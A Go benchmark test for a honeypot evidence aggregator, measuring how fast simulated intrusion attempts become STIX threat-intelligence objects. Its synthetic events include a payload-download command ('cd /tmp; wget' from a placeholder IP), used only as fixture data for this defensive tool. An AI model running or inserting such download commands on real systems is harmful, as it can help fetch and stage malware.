package evidence_test

import (
	"fmt"
	"testing"
	"time"

	"github.com/cabstand/cabstand/collectors/evidence"
	"github.com/cabstand/cabstand/logs"
	"github.com/cabstand/cabstand/stix"
)

// BenchmarkAdd is a log of a honeypot: what comes out of fifty lines is about fifteen objects.
func BenchmarkAdd(b *testing.B) {
	a := newAggregator(b, evidence.Options{MaxBuckets: 1000})
	objects := 0
	emit := func(stix.Object) error { objects++; return nil }
	for i := 0; b.Loop(); i++ {
		n := i / 50
		e := attempt(fmt.Sprintf("203.%d.%d.9", n>>8&255, n&255), start().Add(time.Duration(n/100)*time.Second))
		if i%5 == 0 {
			e.Action, e.Command = logs.Run, fmt.Sprintf("cd /tmp; wget http://203.0.113.80/%d", i%7)
		}
		must(b, a.Add(e, int64(i), emit))
	}
	must(b, a.Close(emit))
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
	b.ReportMetric(float64(objects)/b.Elapsed().Seconds(), "objects/s")
}
